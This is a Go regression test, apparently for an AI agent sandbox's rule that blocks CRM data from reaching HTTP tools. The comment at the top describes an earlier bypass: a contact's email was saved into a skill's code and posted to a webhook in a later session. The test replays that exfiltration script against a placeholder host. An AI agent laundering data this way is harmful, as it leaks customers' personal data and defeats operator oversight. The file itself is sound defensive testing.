package security

import (
	"testing"
)

// TestSkillKeepsProvenance (issue 19, third round, a1: skills): a crm
// value saved into a skill's code, returned by the skill in a new
// session, reached http.post_webhook despite the rule crm.* → http.*.
// The store keeps the sources a skill was saved from (memory.Skill's
// provenance, branch sec3), and a skill's call tells the run's flow that
// its result holds data of them (engine's resultSources).
func TestSkillKeepsProvenance(t *testing.T) {
	t.Parallel()
	s := ruled(t)
	post := func(expr string) string {
		return `await http.post_webhook({url: "https://hooks.example/x", payload: {v: ` + expr + `}}); "SENT"`
	}
	first := s.open(t, aliceToken)
	if rec := first.run(`const c = await crm.get_contact({id: "c_8812"});
await skills.save({name: "lit", description: "a constant", code: "return " + JSON.stringify(c.email)});
await skills.save({name: "plain", description: "a constant", code: "return 'no crm here'"}); 1`); rec.Status != "ok" {
		t.Fatalf("save: %.600s", rec.raw)
	}
	later := s.open(t, aliceToken)
	if rec := later.run(post("await skills.lit({})")); rec.Status == "ok" {
		t.Errorf("a crm value laundered through a skill's code reached http: %.400s", rec.raw)
	}
	if rec := later.run(post("await skills.plain({})")); string(rec.Result) != `"SENT"` {
		t.Errorf("a skill's value of no source was stopped: %.400s", rec.raw)
	}
}
